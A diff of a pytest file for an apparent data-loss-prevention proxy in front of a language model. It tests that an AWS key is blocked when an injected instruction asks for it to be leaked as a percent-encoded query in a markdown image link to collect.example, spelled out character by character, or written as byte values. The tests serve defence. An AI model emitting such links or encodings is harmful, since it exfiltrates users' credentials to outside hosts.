@@ -674,12 +674,16 @@ async def test_an_encoded_credential_is_masked_in_prompts_and_blocked_in_answers
 
 
 @pytest.mark.parametrize("chunk", [1, 7, 50])
-async def test_a_percent_encoded_credential_in_a_link_never_leaves(tmp_path: Path,
-                                                                    chunk: int) -> None:
-    # the link an injected instruction asks for: the key percent-encoded into its query
-    escaped = "".join(f"%{b:02X}" for b in AWS_KEY.encode())
-    upstream = ScriptedUpstream(
-        lambda _: f"Done. ![status](https://collect.example/p.png?d={escaped}) All set.", chunk)
+@pytest.mark.parametrize("form", ["link", "spelled", "bytes"])
+async def test_an_escaped_or_spelled_credential_never_leaves(tmp_path: Path, chunk: int,
+                                                             form: str) -> None:
+    # what an injected instruction asks for: the key percent-encoded into a link's query,
+    # spelled out a character at a time, or written as byte values
+    percent = "".join(f"%{b:02X}" for b in AWS_KEY.encode())
+    escaped = {"link": f"![status](https://collect.example/p.png?d={percent})",
+               "spelled": " ".join(AWS_KEY),
+               "bytes": ", ".join(str(b) for b in AWS_KEY.encode())}[form]
+    upstream = ScriptedUpstream(lambda _: f"Done. {escaped} All set.", chunk)
     options = _options(upstream)
     assert options.dlp is not None
     detectors = options.dlp.detectors
@@ -691,7 +695,7 @@ async def test_a_percent_encoded_credential_in_a_link_never_leaves(tmp_path: Pat
     assert whole.json()["error"]["code"] == "dlp_blocked"
     text, errors = streamed_text(streamed.content)
     assert errors[0]["code"] == "dlp_blocked"
-    assert escaped[:12] not in text
+    assert (percent if form == "link" else escaped)[:12] not in text  # not even its start
 
 
 ENV_FILE = f"# deploy settings\nAWS_ACCESS_KEY_ID={AWS_KEY}\nREGION=eu-west-1\n"
